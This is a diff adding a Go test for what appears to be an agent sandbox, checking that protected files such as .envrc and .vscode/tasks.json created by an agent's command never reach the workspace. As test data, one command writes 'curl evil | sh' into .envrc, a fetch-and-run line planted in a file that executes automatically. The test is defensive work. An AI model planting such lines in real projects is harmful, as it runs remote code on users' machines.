@@ -443,3 +443,37 @@ func TestEffectBranchSwitchApplies(t *testing.T) {
 		t.Fatalf("the applied checkout left the tree dirty:\n%s", st)
 	}
 }
+
+// TestEffectKeepsProtectedPathsOut: a staged run sees the workspace as it
+// is (no placeholders for missing protected names, so git adds none), and
+// a protected name it creates never lands.
+func TestEffectKeepsProtectedPathsOut(t *testing.T) {
+	d := startEffectDaemon(t)
+	s := d.MCP(context.Background(), "protected")
+	r, err := s.CallTool(context.Background(), &mcp.CallToolParams{Name: "run_command", Arguments: map[string]any{
+		"argv": []string{"sh", "-c", "ls -A; git status --porcelain"}}})
+	if err != nil || r.IsError {
+		t.Fatalf("%v %s", err, clitest.Text(t, r))
+	}
+	if out := clitest.Text(t, r); strings.Contains(out, ".bashrc") || strings.Contains(out, ".envrc") {
+		t.Fatalf("the agent sees placeholders:\n%s", out)
+	}
+	r, err = s.CallTool(context.Background(), &mcp.CallToolParams{Name: "run_command", Arguments: map[string]any{
+		"argv": []string{"sh", "-c", "echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo ok > ok.txt"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := effectPart(t, r)
+	kept, _ := e["kept_out"].([]any)
+	if !r.IsError || len(kept) < 2 {
+		t.Fatalf("effect %v (error %v)", e, r.IsError)
+	}
+	for _, p := range []string{".envrc", ".vscode"} {
+		if _, err := os.Lstat(filepath.Join(d.Workspace, p)); err == nil {
+			t.Errorf("%s landed in the workspace", p)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(d.Workspace, "ok.txt")); string(b) != "ok\n" {
+		t.Errorf("ok.txt = %q", b)
+	}
+}
